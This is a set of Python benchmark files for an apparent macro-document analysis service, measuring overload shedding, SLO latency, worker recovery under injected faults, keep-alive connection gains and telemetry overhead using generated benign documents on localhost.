        y = dataset.labels
        cv = cross_validate(
            lambda: make_classifier("RF", random_state=0),
            X,
            y,
            n_splits=min(BENCH_FOLDS, 5),
            random_state=0,
        )
        f2 = cv.pooled_report["f2"]
        results[threshold] = (len(dataset.samples), f2)
        lines.append(
            f"{threshold:>10} {len(dataset.samples):>8} "
            f"{int(y.sum()):>11} {f2:>7.3f}"
        )
    text = "\n".join(lines)
    print("\n" + text)
    save_artifact("ablation_min_length.txt", text)

    # The filter monotonically shrinks the dataset...
    sizes = [results[t][0] for t in THRESHOLDS]
    assert sizes == sorted(sizes, reverse=True)
    # ...without destroying detection quality at the paper's setting.
    assert results[150][1] > 0.7

    documents = corpus.documents

    def rebuild() -> int:
        return len(DatasetBuilder(150).build(documents, corpus.truth).samples)

    benchmark.pedantic(rebuild, iterations=1, rounds=2)
