"""Serving front-end under overload — shed, survive, stay within SLO.

One scenario, benchmarked end to end over real sockets: a burst of
**4× the shed line** hits a 2-worker ``repro serve`` application while
one request poisons (and kills) a worker and ~10% of the bodies are
malformed non-documents.  The serving promise under test:

* **every request gets a typed terminal response** — 200 with an NDJSON
  record (including the quarantined poison and the malformed bodies,
  which analyze into ``ok=false`` records) or a typed 429/503 refusal;
  zero connection resets, zero untyped failures;
* **the shed line holds** — at least ``burst − shed_line − jobs``
  requests are refused with ``503 queue_full`` (the queue plus the
  workers that settle mid-burst are the only capacity that may admit);
* **admitted requests stay within SLO** — the ``serve.latency.lint``
  p95 (admitted requests only; refusals never enter the histogram) is
  evaluated through the same :func:`repro.obs.slo.serve_slos` machinery
  CI gates on, together with the ``serve.errors``/``serve.requests``
  error budget (deliberate sheds burn nothing);
* **the warm pool survives** — exactly one worker restart, and a
  follow-up request after the burst is served 200 by the healed pool.

Results land in ``benchmarks/results/serve_overload.json``; if a
committed artifact is present, the run additionally fails on a >25%
p95 regression against it.

Environment knobs: ``REPRO_BENCH_SERVE_SHED`` (shed line, default 8),
``REPRO_BENCH_SERVE_HANG`` (per-document hang seconds that simulate
analysis cost, default 0.25).
"""

from __future__ import annotations

import asyncio
import concurrent.futures
import http.client
import json
import os
import random
import time

from conftest import RESULTS_DIR, save_artifact

from repro.corpus.benign import generate_benign_module
from repro.corpus.documents import build_document_bytes
from repro.engine import AnalysisEngine
from repro.obs import MetricsRegistry
from repro.obs.slo import evaluate_snapshot, serve_slos
from repro.resilience import Fault, FaultPlan
from repro.resilience.recovery import RetryPolicy
from repro.serve import ServeApp, ServeConfig

SHED_LINE = int(os.environ.get("REPRO_BENCH_SERVE_SHED", "8"))
HANG_S = float(os.environ.get("REPRO_BENCH_SERVE_HANG", "0.25"))
BURST = 4 * SHED_LINE
JOBS = 2
#: Requests that may legitimately be admitted during the burst: the
#: queue itself plus the workers that can settle a document while the
#: burst is still arriving.  Everything past this must be shed.
EXCESS = BURST - SHED_LINE - JOBS
MALFORMED = max(1, BURST // 10)

#: Terminal statuses the protocol allows under overload.
TYPED_STATUSES = frozenset({200, 408, 429, 503})

#: Allowed p95 growth vs the committed artifact before the bench fails.
REGRESSION_TOLERANCE = 0.8


def _post(port: int, path: str, body: bytes):
    """One blocking request; returns (status, code-or-None, elapsed_s)."""
    started = time.perf_counter()
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=120)
    try:
        conn.request(
            "POST", path, body=body,
            headers={"Content-Length": str(len(body))},
        )
        response = conn.getresponse()
        payload = response.read()
        status = response.status
    finally:
        conn.close()
    record = json.loads(payload.splitlines()[0])
    code = record.get("error", {}).get("code") if status != 200 else None
    return status, code, record, time.perf_counter() - started


def _build_burst(docm: bytes) -> list[tuple[str, bytes]]:
    """(source_id, body) pairs: one poison, ~10% malformed, rest clean.

    All but the poison carry the ``bench-doc`` marker, so the hang
    fault prices each admitted document at ``HANG_S`` — the burst must outrun the
    drain rate for the shed line to be observable, and a fixed per-doc
    cost makes the p95 a statement about queueing, not parsing speed.
    """
    requests = []
    for index in range(BURST):
        if index == 0:
            requests.append((f"bench-kill-{index}", docm))
        elif index <= MALFORMED:
            requests.append(
                (f"bench-doc-mal-{index}", b"not a document %d" % index)
            )
        else:
            requests.append((f"bench-doc-{index:03d}", docm))
    return requests


def _previous_artifact() -> dict | None:
    path = RESULTS_DIR / "serve_overload.json"
    if not path.exists():
        return None
    return json.loads(path.read_text())


def test_overload_sheds_excess_and_serves_admitted_within_slo():
    previous = _previous_artifact()
    rng = random.Random(99)
    docm = build_document_bytes(
        [generate_benign_module(rng, target_length=300)], "docm"
    )
    burst = _build_burst(docm)

    registry = MetricsRegistry()
    chaos = FaultPlan(
        faults=(Fault("hang", "bench-doc"), Fault("exit", "bench-kill")),
        hang_s=HANG_S,
    )
    engine = AnalysisEngine.for_lint(metrics=registry, chaos=chaos)
    # Exactly one kill: no retry, so the poison quarantines after its
    # first worker death instead of burning three workers (and tripping
    # the breaker) on a document that is never going to parse.
    engine.retry = RetryPolicy(max_attempts=1)
    config = ServeConfig(
        jobs=JOBS,
        max_queue=SHED_LINE,
        per_client_window=2 * BURST,   # the whole burst is one client
        rate_per_s=10_000.0,
        burst=float(2 * BURST),
        default_deadline_s=60.0,
    )
    app = ServeApp(engine, config, metrics=registry)

    async def scenario():
        port = await app.start()
        loop = asyncio.get_running_loop()
        # One thread per request: the burst must be genuinely
        # concurrent, or slow executors would serialize arrivals and
        # let the queue drain between them.
        pool = concurrent.futures.ThreadPoolExecutor(max_workers=BURST)
        try:
            calls = [
                loop.run_in_executor(
                    pool, _post, port, f"/lint?id={sid}", body
                )
                for sid, body in burst
            ]
            outcomes = await asyncio.gather(*calls, return_exceptions=True)
            # The healed pool serves a follow-up after the storm.
            after = await loop.run_in_executor(
                pool, _post, port, "/lint?id=bench-doc-after", docm
            )
            restarts = app.gateway._pool.worker_restarts
            report = await app.drain(budget_s=60.0)
            return outcomes, after, restarts, report
        finally:
            pool.shutdown(wait=False)

    outcomes, after, restarts, drain_report = asyncio.run(
        asyncio.wait_for(scenario(), 300.0)
    )

    resets = [o for o in outcomes if isinstance(o, BaseException)]
    assert not resets, f"untyped transport failures: {resets!r}"
    statuses: dict[str, int] = {}
    codes: dict[str, int] = {}
    served_s = []
    for status, code, record, elapsed in outcomes:
        assert status in TYPED_STATUSES, (status, code)
        statuses[str(status)] = statuses.get(str(status), 0) + 1
        if code is not None:
            codes[code] = codes.get(code, 0) + 1
        if status == 200:
            served_s.append(elapsed)

    counters = registry.to_dict()["counters"]
    sheds = counters.get("serve.shed", 0)
    admitted = counters.get("serve.admitted", 0)

    slo_report = evaluate_snapshot(registry.to_dict(), serve_slos(("lint",)))
    p95_result = next(
        r for r in slo_report.results if r.slo.kind == "latency_p95"
    )

    text = (
        "SERVE OVERLOAD — shed line holds, admitted stay within SLO\n"
        f"burst              : {BURST} requests "
        f"({MALFORMED} malformed, 1 poison), shed line {SHED_LINE}, "
        f"jobs={JOBS}, hang={HANG_S:g}s/doc\n"
        f"statuses           : {dict(sorted(statuses.items()))}\n"
        f"refusal codes      : {dict(sorted(codes.items()))}\n"
        f"admitted / shed    : {admitted} / {sheds} "
        f"(must shed >= {EXCESS})\n"
        f"p95 (admitted)     : {p95_result.observed:.3f} s "
        f"(SLO <= {p95_result.threshold:g} s, "
        f"burn {p95_result.burn_rate:.2f})\n"
        f"worker restarts    : {restarts} (exactly 1 kill)\n"
        f"follow-up          : {after[0]} after drain of the storm\n"
    )
    print("\n" + text)

    save_artifact(
        "serve_overload.json",
        json.dumps(
            {
                "burst": BURST,
                "shed_line": SHED_LINE,
                "jobs": JOBS,
                "hang_s": HANG_S,
                "malformed": MALFORMED,
                "excess": EXCESS,
                "statuses": statuses,
                "refusal_codes": codes,
                "admitted": admitted,
                "sheds": sheds,
                "p95_s": round(p95_result.observed, 4),
                "slo": slo_report.to_dict(),
                "worker_restarts": restarts,
                "followup_status": after[0],
                "drain_settled": drain_report.settled,
            },
            indent=2,
            sort_keys=True,
        ),
    )

    # Typed totality: the burst is fully accounted for.
    assert sum(statuses.values()) == BURST
    # The shed line held: everything past queue + in-flight was refused.
    assert sheds >= EXCESS, text
    assert codes.get("queue_full", 0) == sheds
    # Admitted requests stayed within the declared serving SLOs.
    assert slo_report.ok, slo_report.render()
    assert served_s, "no admitted requests were served"
    # The warm pool survived its one kill and kept serving.
    assert restarts == 1, f"expected exactly one worker kill, saw {restarts}"
    assert after[0] == 200, f"post-burst request failed: {after!r}"
    assert drain_report.settled and drain_report.abandoned == 0

    if previous is not None and "p95_s" in previous:
        ceiling = previous["p95_s"] / REGRESSION_TOLERANCE
        assert p95_result.observed <= ceiling, (
            f"admitted p95 regressed >25%: {p95_result.observed:.3f}s vs "
            f"committed {previous['p95_s']}s"
        )
