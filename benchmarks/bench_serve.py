"""Serving front-end under overload — shed, survive, stay within SLO.

One scenario, benchmarked end to end over real sockets: a burst of
**4× the shed line** hits a 2-worker ``repro serve`` application while
one request poisons (and kills) a worker and ~10% of the bodies are
malformed non-documents.  The serving promise under test:

* **every request gets a typed terminal response** — 200 with an NDJSON
  record (including the quarantined poison and the malformed bodies,
  which analyze into ``ok=false`` records) or a typed 429/503 refusal;
  zero connection resets, zero untyped failures;
* **the shed line holds** — at least ``burst − shed_line − jobs``
  requests are refused with ``503 queue_full`` (the queue plus the
  workers that settle mid-burst are the only capacity that may admit);
* **admitted requests stay within SLO** — the ``serve.latency.lint``
  p95 (admitted requests only; refusals never enter the histogram) is
  evaluated through the same :func:`repro.obs.slo.serve_slos` machinery
  CI gates on, together with the ``serve.errors``/``serve.requests``
  error budget (deliberate sheds burn nothing);
* **the warm pool survives** — exactly one worker restart, and a
  follow-up request after the burst is served 200 by the healed pool.

Results land in ``benchmarks/results/serve_overload.json``; if a
committed artifact is present, the run additionally fails on a >25%
p95 regression against it.

A second scenario benchmarks the keep-alive path: the same small-doc
storm is driven over real sockets in interleaved rounds — each round
runs once with ``Connection: close`` on every request (a fresh TCP
connection each time) and once over persistent connections — and the
median of the per-round cold p95s is compared against the median of
the per-round reused p95s.  Interleaving rounds and taking medians
makes the comparison robust to scheduler noise (a GC pause or a noisy
neighbour perturbs one round, not the median); the reused median must
land at least 30% below the cold median, with identical overload
behavior (zero sheds, breaker closed) in both modes.  Results land in
``benchmarks/results/serve_keepalive.json``.

Environment knobs: ``REPRO_BENCH_SERVE_SHED`` (shed line, default 8),
``REPRO_BENCH_SERVE_HANG`` (per-document hang seconds that simulate
analysis cost, default 0.25), ``REPRO_BENCH_SERVE_STORM`` (keep-alive
storm size per round, default 400), ``REPRO_BENCH_SERVE_THREADS``
(concurrent storm clients, default 2), ``REPRO_BENCH_SERVE_ROUNDS``
(cold/reused round pairs, default 5).
"""

from __future__ import annotations

import asyncio
import concurrent.futures
import http.client
import json
import os
import random
import statistics
import time

from conftest import RESULTS_DIR, save_artifact

from repro.corpus.benign import generate_benign_module
from repro.corpus.documents import build_document_bytes
from repro.engine import AnalysisEngine
from repro.obs import MetricsRegistry
from repro.obs.slo import evaluate_snapshot, serve_slos
from repro.resilience import Fault, FaultPlan
from repro.resilience.recovery import RetryPolicy
from repro.serve import ServeApp, ServeConfig

SHED_LINE = int(os.environ.get("REPRO_BENCH_SERVE_SHED", "8"))
HANG_S = float(os.environ.get("REPRO_BENCH_SERVE_HANG", "0.25"))
STORM = int(os.environ.get("REPRO_BENCH_SERVE_STORM", "400"))
STORM_THREADS = int(os.environ.get("REPRO_BENCH_SERVE_THREADS", "2"))
STORM_ROUNDS = int(os.environ.get("REPRO_BENCH_SERVE_ROUNDS", "5"))
#: Required keep-alive win: reused p95 must be >= 30% below cold p95.
MIN_REUSE_IMPROVEMENT = 0.30
BURST = 4 * SHED_LINE
JOBS = 2
#: Requests that may legitimately be admitted during the burst: the
#: queue itself plus the workers that can settle a document while the
#: burst is still arriving.  Everything past this must be shed.
EXCESS = BURST - SHED_LINE - JOBS
MALFORMED = max(1, BURST // 10)

#: Terminal statuses the protocol allows under overload.
TYPED_STATUSES = frozenset({200, 408, 429, 503})

#: Allowed p95 growth vs the committed artifact before the bench fails.
REGRESSION_TOLERANCE = 0.8


def _post(port: int, path: str, body: bytes):
    """One blocking request; returns (status, code-or-None, elapsed_s)."""
    started = time.perf_counter()
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=120)
    try:
        conn.request(
            "POST", path, body=body,
            headers={"Content-Length": str(len(body))},
        )
        response = conn.getresponse()
        payload = response.read()
        status = response.status
    finally:
        conn.close()
    record = json.loads(payload.splitlines()[0])
    code = record.get("error", {}).get("code") if status != 200 else None
    return status, code, record, time.perf_counter() - started


def _build_burst(docm: bytes) -> list[tuple[str, bytes]]:
    """(source_id, body) pairs: one poison, ~10% malformed, rest clean.

    All but the poison carry the ``bench-doc`` marker, so the hang
    fault prices each admitted document at ``HANG_S`` — the burst must outrun the
    drain rate for the shed line to be observable, and a fixed per-doc
    cost makes the p95 a statement about queueing, not parsing speed.
    """
    requests = []
    for index in range(BURST):
        if index == 0:
            requests.append((f"bench-kill-{index}", docm))
        elif index <= MALFORMED:
            requests.append(
                (f"bench-doc-mal-{index}", b"not a document %d" % index)
            )
        else:
            requests.append((f"bench-doc-{index:03d}", docm))
    return requests


def _previous_artifact() -> dict | None:
    path = RESULTS_DIR / "serve_overload.json"
    if not path.exists():
        return None
    return json.loads(path.read_text())


def test_overload_sheds_excess_and_serves_admitted_within_slo():
    previous = _previous_artifact()
    rng = random.Random(99)
    docm = build_document_bytes(
        [generate_benign_module(rng, target_length=300)], "docm"
    )
    burst = _build_burst(docm)

    registry = MetricsRegistry()
    chaos = FaultPlan(
        faults=(Fault("hang", "bench-doc"), Fault("exit", "bench-kill")),
        hang_s=HANG_S,
    )
    engine = AnalysisEngine.for_lint(metrics=registry, chaos=chaos)
    # Exactly one kill: no retry, so the poison quarantines after its
    # first worker death instead of burning three workers (and tripping
    # the breaker) on a document that is never going to parse.
    engine.retry = RetryPolicy(max_attempts=1)
    config = ServeConfig(
        jobs=JOBS,
        max_queue=SHED_LINE,
        per_client_window=2 * BURST,   # the whole burst is one client
        rate_per_s=10_000.0,
        burst=float(2 * BURST),
        default_deadline_s=60.0,
    )
    app = ServeApp(engine, config, metrics=registry)

    async def scenario():
        port = await app.start()
        loop = asyncio.get_running_loop()
        # One thread per request: the burst must be genuinely
        # concurrent, or slow executors would serialize arrivals and
        # let the queue drain between them.
        pool = concurrent.futures.ThreadPoolExecutor(max_workers=BURST)
        try:
            # The poison goes first and must be admitted before the
            # storm fills the queue — fired concurrently with the rest
            # it occasionally lands behind SHED_LINE + JOBS others,
            # gets a 503, and never reaches (or kills) a worker.
            poison_sid, poison_body = burst[0]
            calls = [
                loop.run_in_executor(
                    pool, _post, port, f"/lint?id={poison_sid}", poison_body
                )
            ]
            for _ in range(500):
                counters = registry.to_dict()["counters"]
                if counters.get("serve.admitted", 0) >= 1:
                    break
                await asyncio.sleep(0.01)
            else:
                raise AssertionError("poison request was never admitted")
            calls.extend(
                loop.run_in_executor(
                    pool, _post, port, f"/lint?id={sid}", body
                )
                for sid, body in burst[1:]
            )
            outcomes = await asyncio.gather(*calls, return_exceptions=True)
            # The healed pool serves a follow-up after the storm.
            after = await loop.run_in_executor(
                pool, _post, port, "/lint?id=bench-doc-after", docm
            )
            restarts = app.gateway._pool.worker_restarts
            report = await app.drain(budget_s=60.0)
            return outcomes, after, restarts, report
        finally:
            pool.shutdown(wait=False)

    outcomes, after, restarts, drain_report = asyncio.run(
        asyncio.wait_for(scenario(), 300.0)
    )

    resets = [o for o in outcomes if isinstance(o, BaseException)]
    assert not resets, f"untyped transport failures: {resets!r}"
    statuses: dict[str, int] = {}
    codes: dict[str, int] = {}
    served_s = []
    for status, code, record, elapsed in outcomes:
        assert status in TYPED_STATUSES, (status, code)
        statuses[str(status)] = statuses.get(str(status), 0) + 1
        if code is not None:
            codes[code] = codes.get(code, 0) + 1
        if status == 200:
            served_s.append(elapsed)

    counters = registry.to_dict()["counters"]
    sheds = counters.get("serve.shed", 0)
    admitted = counters.get("serve.admitted", 0)

    slo_report = evaluate_snapshot(registry.to_dict(), serve_slos(("lint",)))
    p95_result = next(
        r for r in slo_report.results if r.slo.kind == "latency_p95"
    )

    text = (
        "SERVE OVERLOAD — shed line holds, admitted stay within SLO\n"
        f"burst              : {BURST} requests "
        f"({MALFORMED} malformed, 1 poison), shed line {SHED_LINE}, "
        f"jobs={JOBS}, hang={HANG_S:g}s/doc\n"
        f"statuses           : {dict(sorted(statuses.items()))}\n"
        f"refusal codes      : {dict(sorted(codes.items()))}\n"
        f"admitted / shed    : {admitted} / {sheds} "
        f"(must shed >= {EXCESS})\n"
        f"p95 (admitted)     : {p95_result.observed:.3f} s "
        f"(SLO <= {p95_result.threshold:g} s, "
        f"burn {p95_result.burn_rate:.2f})\n"
        f"worker restarts    : {restarts} (exactly 1 kill)\n"
        f"follow-up          : {after[0]} after drain of the storm\n"
    )
    print("\n" + text)

    save_artifact(
        "serve_overload.json",
        json.dumps(
            {
                "burst": BURST,
                "shed_line": SHED_LINE,
                "jobs": JOBS,
                "hang_s": HANG_S,
                "malformed": MALFORMED,
                "excess": EXCESS,
                "statuses": statuses,
                "refusal_codes": codes,
                "admitted": admitted,
                "sheds": sheds,
                "p95_s": round(p95_result.observed, 4),
                "slo": slo_report.to_dict(),
                "worker_restarts": restarts,
                "followup_status": after[0],
                "drain_settled": drain_report.settled,
            },
            indent=2,
            sort_keys=True,
        ),
    )

    # Typed totality: the burst is fully accounted for.
    assert sum(statuses.values()) == BURST
    # The shed line held: everything past queue + in-flight was refused.
    assert sheds >= EXCESS, text
    assert codes.get("queue_full", 0) == sheds
    # Admitted requests stayed within the declared serving SLOs.
    assert slo_report.ok, slo_report.render()
    assert served_s, "no admitted requests were served"
    # The warm pool survived its one kill and kept serving.
    assert restarts == 1, f"expected exactly one worker kill, saw {restarts}"
    assert after[0] == 200, f"post-burst request failed: {after!r}"
    assert drain_report.settled and drain_report.abandoned == 0

    if previous is not None and "p95_s" in previous:
        ceiling = previous["p95_s"] / REGRESSION_TOLERANCE
        assert p95_result.observed <= ceiling, (
            f"admitted p95 regressed >25%: {p95_result.observed:.3f}s vs "
            f"committed {previous['p95_s']}s"
        )


def _p95(samples: list[float]) -> float:
    ordered = sorted(samples)
    return ordered[max(0, int(len(ordered) * 0.95) - 1)]


def _storm(port: int, docm: bytes, *, reuse: bool) -> list[float]:
    """Drive STORM small-doc requests from STORM_THREADS clients.

    ``reuse=False`` sends ``Connection: close`` and opens a fresh TCP
    connection per request — the connect (and the server's accept +
    handler-task churn) is priced into every sample.  ``reuse=True``
    holds one persistent connection per thread.
    """
    per_thread = STORM // STORM_THREADS

    def worker(tid: int) -> list[float]:
        samples = []
        conn = None
        try:
            for index in range(per_thread):
                path = f"/lint?id=storm-{tid}-{index}"
                headers = {"Content-Length": str(len(docm))}
                started = time.perf_counter()
                if reuse:
                    if conn is None:
                        conn = http.client.HTTPConnection(
                            "127.0.0.1", port, timeout=60
                        )
                    conn.request("POST", path, body=docm, headers=headers)
                    response = conn.getresponse()
                    response.read()
                else:
                    headers["Connection"] = "close"
                    cold = http.client.HTTPConnection(
                        "127.0.0.1", port, timeout=60
                    )
                    try:
                        cold.request("POST", path, body=docm, headers=headers)
                        response = cold.getresponse()
                        response.read()
                    finally:
                        cold.close()
                assert response.status == 200, response.status
                samples.append(time.perf_counter() - started)
        finally:
            if conn is not None:
                conn.close()
        return samples

    with concurrent.futures.ThreadPoolExecutor(STORM_THREADS) as pool:
        samples = []
        for result in pool.map(worker, range(STORM_THREADS)):
            samples.extend(result)
    return samples


def test_keepalive_reuse_beats_cold_connections():
    previous_path = RESULTS_DIR / "serve_keepalive.json"
    previous = (
        json.loads(previous_path.read_text())
        if previous_path.exists()
        else None
    )
    rng = random.Random(99)
    docm = build_document_bytes(
        [generate_benign_module(rng, target_length=300)], "docm"
    )

    registry = MetricsRegistry()
    engine = AnalysisEngine.for_lint(metrics=registry)
    # Generous admission: the storm measures connection economics, not
    # overload policy — both modes must run shed-free for the p95
    # comparison to be about transport alone.
    config = ServeConfig(
        jobs=JOBS,
        max_queue=4 * STORM,
        per_client_window=4 * STORM_THREADS,
        rate_per_s=100_000.0,
        burst=float(4 * STORM),
        default_deadline_s=60.0,
        max_requests_per_connection=STORM,
    )
    app = ServeApp(engine, config, metrics=registry)

    async def scenario():
        port = await app.start()
        loop = asyncio.get_running_loop()
        # Warm the engine's content cache so every storm request hits
        # the fast path and the p95 gap is transport, not analysis.
        warm = await loop.run_in_executor(
            None, _post, port, "/lint?id=storm-warm", docm
        )
        assert warm[0] == 200
        modes = {
            label: {
                "count": 0,
                "round_p95s": [],
                "sheds": 0,
                "rejected": 0,
                "breaker": app.breaker.state,
                "reused_connections": 0,
            }
            for label in ("cold", "reused")
        }
        # Interleave cold/reused rounds so ambient noise (GC, a busy
        # sibling process) perturbs individual rounds of both modes
        # equally rather than biasing one whole mode's measurement.
        for _ in range(STORM_ROUNDS):
            for label, reuse in (("cold", False), ("reused", True)):
                mode = modes[label]
                before = dict(registry.to_dict()["counters"])
                samples = await loop.run_in_executor(
                    None, lambda r=reuse: _storm(port, docm, reuse=r)
                )
                after = registry.to_dict()["counters"]
                mode["count"] += len(samples)
                mode["round_p95s"].append(_p95(samples))
                mode["sheds"] += after.get("serve.shed", 0) - before.get(
                    "serve.shed", 0
                )
                mode["rejected"] += (
                    after.get("serve.rate_limited", 0)
                    + after.get("serve.client_saturated", 0)
                    - before.get("serve.rate_limited", 0)
                    - before.get("serve.client_saturated", 0)
                )
                mode["breaker"] = app.breaker.state
                mode["reused_connections"] += after.get(
                    "serve.connections.reused", 0
                ) - before.get("serve.connections.reused", 0)
        report = await app.drain(budget_s=60.0)
        return modes, report

    modes, drain_report = asyncio.run(asyncio.wait_for(scenario(), 300.0))

    cold, reused = modes["cold"], modes["reused"]
    cold_p95 = statistics.median(cold["round_p95s"])
    reused_p95 = statistics.median(reused["round_p95s"])
    improvement = 1.0 - reused_p95 / cold_p95

    text = (
        "SERVE KEEP-ALIVE — reused connections beat cold ones\n"
        f"storm              : {STORM_ROUNDS} rounds x {STORM} small-doc "
        f"requests x {STORM_THREADS} clients, jobs={JOBS}\n"
        f"cold p95           : {cold_p95 * 1e3:.3f} ms median of "
        f"{[f'{p * 1e3:.2f}' for p in cold['round_p95s']]} "
        f"(new connection per request)\n"
        f"reused p95         : {reused_p95 * 1e3:.3f} ms median of "
        f"{[f'{p * 1e3:.2f}' for p in reused['round_p95s']]} "
        f"({reused['reused_connections']} reuses)\n"
        f"improvement        : {improvement:.1%} "
        f"(gate >= {MIN_REUSE_IMPROVEMENT:.0%})\n"
        f"sheds cold/reused  : {cold['sheds']} / {reused['sheds']} "
        f"(both must be 0)\n"
        f"breaker            : {cold['breaker']} / {reused['breaker']}\n"
    )
    print("\n" + text)

    save_artifact(
        "serve_keepalive.json",
        json.dumps(
            {
                "storm": STORM,
                "threads": STORM_THREADS,
                "rounds": STORM_ROUNDS,
                "jobs": JOBS,
                "cold_p95_s": round(cold_p95, 6),
                "reused_p95_s": round(reused_p95, 6),
                "improvement": round(improvement, 4),
                "reused_connections": reused["reused_connections"],
                "sheds": {"cold": cold["sheds"], "reused": reused["sheds"]},
                "rejected": {
                    "cold": cold["rejected"],
                    "reused": reused["rejected"],
                },
                "breaker": {
                    "cold": cold["breaker"],
                    "reused": reused["breaker"],
                },
                "drain_settled": drain_report.settled,
            },
            indent=2,
            sort_keys=True,
        ),
    )

    assert cold["count"] == reused["count"] == STORM_ROUNDS * STORM
    # Overload behavior is identical across modes: keep-alive changes
    # the transport, never the admission verdicts.
    assert cold["sheds"] == reused["sheds"] == 0, text
    assert cold["rejected"] == reused["rejected"] == 0, text
    assert cold["breaker"] == reused["breaker"] == "closed", text
    # Persistent connections actually persisted: each reused round
    # opens at most one connection per client thread.
    assert reused["reused_connections"] >= STORM_ROUNDS * (
        STORM - 2 * STORM_THREADS
    )
    # The keep-alive dividend: >= 30% off the cold p95.
    assert improvement >= MIN_REUSE_IMPROVEMENT, text
    assert drain_report.settled

    if previous is not None and "improvement" in previous:
        floor = previous["improvement"] * REGRESSION_TOLERANCE
        assert improvement >= floor, (
            f"keep-alive improvement regressed >20%: {improvement:.1%} vs "
            f"committed {previous['improvement']:.1%}"
        )
