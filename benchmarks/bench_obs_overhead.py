"""Telemetry overhead — off must be free, on must be cheap.

The engine promises an explicit no-op mode: with the default
:data:`~repro.obs.NULL_REGISTRY` the only telemetry cost on the
``run_source`` hot path is one ``metrics.enabled`` attribute check per
stage.  This bench holds that promise to a number:

* **off vs. baseline** — ``run_source`` with telemetry off must stay
  within 5% of the pre-telemetry stage loop (the PR 2 ``run_source``
  body, reconstructed inline), asserted on best-of-N rounds;
* **on vs. off** — a live registry's cost is measured and recorded for
  the artifact, not asserted (spans are allowed to cost something);
* **windowed/export off vs. bare** — attaching a :class:`SlidingWindow`
  and :class:`DriftMonitor` to a NULL_REGISTRY engine must also stay
  within the 5% gate on the per-document ``run`` path (the attachments
  exist but every tick exits on the ``enabled`` check), with the live
  windowed + Prometheus-scrape cost recorded alongside.

Environment knobs: ``REPRO_BENCH_OBS_SOURCES`` (default 120 macros),
``REPRO_BENCH_OBS_DOCS`` (default 40 documents),
``REPRO_BENCH_OBS_ROUNDS`` (default 5).
"""

from __future__ import annotations

import os
import random
import time

from conftest import save_artifact

from repro.engine import AnalysisEngine, MacroRecord, MacroStage
from repro.corpus.benign import generate_benign_module
from repro.obs import MetricsRegistry

N_SOURCES = int(os.environ.get("REPRO_BENCH_OBS_SOURCES", "120"))
N_DOCS = int(os.environ.get("REPRO_BENCH_OBS_DOCS", "40"))
N_ROUNDS = int(os.environ.get("REPRO_BENCH_OBS_ROUNDS", "5"))
MAX_OFF_OVERHEAD = 1.05  # telemetry off: < 5% over the PR 2 baseline


def build_sources(n_sources: int) -> list[str]:
    rng = random.Random(777)
    return [
        generate_benign_module(rng, target_length=rng.randint(400, 2500))
        for _ in range(n_sources)
    ]


def _baseline_run_source(stages, source: str) -> MacroRecord:
    """The pre-telemetry ``run_source`` body: the bare stage loop."""
    macro = MacroRecord(module_name="Macro1", source=source)
    for stage in stages:
        if isinstance(stage, MacroStage) and macro.kept:
            stage.process_macro(macro)
    macro.analysis = None
    return macro


def _best_of(rounds: int, run) -> float:
    best = float("inf")
    for _ in range(rounds):
        start = time.perf_counter()
        run()
        best = min(best, time.perf_counter() - start)
    return best


def test_run_source_telemetry_off_is_free(benchmark):
    sources = build_sources(N_SOURCES)
    engine_off = AnalysisEngine.for_features(("V",))
    registry = MetricsRegistry()
    engine_on = AnalysisEngine.for_features(("V",), metrics=registry)
    stages = engine_off.stages

    # Warm every lazy import before the first timed round.
    _baseline_run_source(stages, sources[0])
    engine_off.run_source(sources[0])
    engine_on.run_source(sources[0])

    baseline = _best_of(
        N_ROUNDS,
        lambda: [_baseline_run_source(stages, source) for source in sources],
    )
    off = _best_of(
        N_ROUNDS, lambda: [engine_off.run_source(source) for source in sources]
    )
    on = _best_of(
        N_ROUNDS, lambda: [engine_on.run_source(source) for source in sources]
    )

    off_overhead = off / baseline
    on_overhead = on / baseline
    text = (
        "OBS OVERHEAD — run_source hot path, best of "
        f"{N_ROUNDS} rounds x {len(sources)} macros\n"
        f"PR 2 baseline loop : {baseline:.3f} s"
        f"  ({len(sources) / baseline:.1f} macros/s)\n"
        f"telemetry off      : {off:.3f} s  ({off_overhead:.3f}x baseline)\n"
        f"telemetry on       : {on:.3f} s  ({on_overhead:.3f}x baseline)\n"
        f"spans recorded     : {registry.histogram('span.analyze').count}\n"
    )
    print("\n" + text)
    save_artifact("obs_overhead.txt", text)

    # Parity: telemetry must never change what the engine computes.
    base_macro = _baseline_run_source(stages, sources[0])
    for engine in (engine_off, engine_on):
        macro = engine.run_source(sources[0])
        assert (macro.features["V"] == base_macro.features["V"]).all()

    assert off_overhead < MAX_OFF_OVERHEAD, text

    benchmark.pedantic(
        lambda: [engine_off.run_source(source) for source in sources[:30]],
        iterations=1,
        rounds=3,
    )


def build_documents(n_docs: int) -> list[bytes]:
    from repro.corpus.documents import build_document_bytes

    rng = random.Random(778)
    return [
        build_document_bytes(
            [generate_benign_module(rng, target_length=rng.randint(400, 1500))],
            "docm",
        )
        for _ in range(n_docs)
    ]


def test_windowed_observability_off_is_free(benchmark):
    """Window + drift attachments on a NULL_REGISTRY engine cost nothing."""
    from repro.obs import DriftMonitor, SlidingWindow, render_prometheus
    from repro.obs.drift import capture_profile

    documents = build_documents(N_DOCS)

    def engine(metrics=None):
        # Caching off: every round must take the full _process path the
        # observability tick lives on, not the cache-hit shortcut.
        return AnalysisEngine(
            feature_sets=("V",),
            metrics=metrics,
            cache_size=0,
            feature_cache_size=0,
        )

    bare = engine()

    attached_off = engine()
    attached_off.window = SlidingWindow()
    attached_off.drift_monitor = DriftMonitor(
        {"metrics": {}}, attached_off.metrics
    )

    live_registry = MetricsRegistry()
    live = engine(metrics=live_registry)
    live.window = SlidingWindow()
    live.drift_monitor = DriftMonitor(
        capture_profile(live_registry), live_registry
    )

    # Warm lazy imports before the first timed round.
    for warm in (bare, attached_off, live):
        warm.run(documents[0])

    baseline = _best_of(
        N_ROUNDS, lambda: [bare.run(document) for document in documents]
    )
    off = _best_of(
        N_ROUNDS,
        lambda: [attached_off.run(document) for document in documents],
    )
    on = _best_of(
        N_ROUNDS, lambda: [live.run(document) for document in documents]
    )
    scrape = _best_of(
        N_ROUNDS,
        lambda: render_prometheus(
            live_registry, live.window.view(live_registry)
        ),
    )

    off_overhead = off / baseline
    on_overhead = on / baseline
    text = (
        "WINDOWED OBS OVERHEAD — engine.run document path, best of "
        f"{N_ROUNDS} rounds x {len(documents)} documents\n"
        f"bare NULL_REGISTRY          : {baseline:.3f} s"
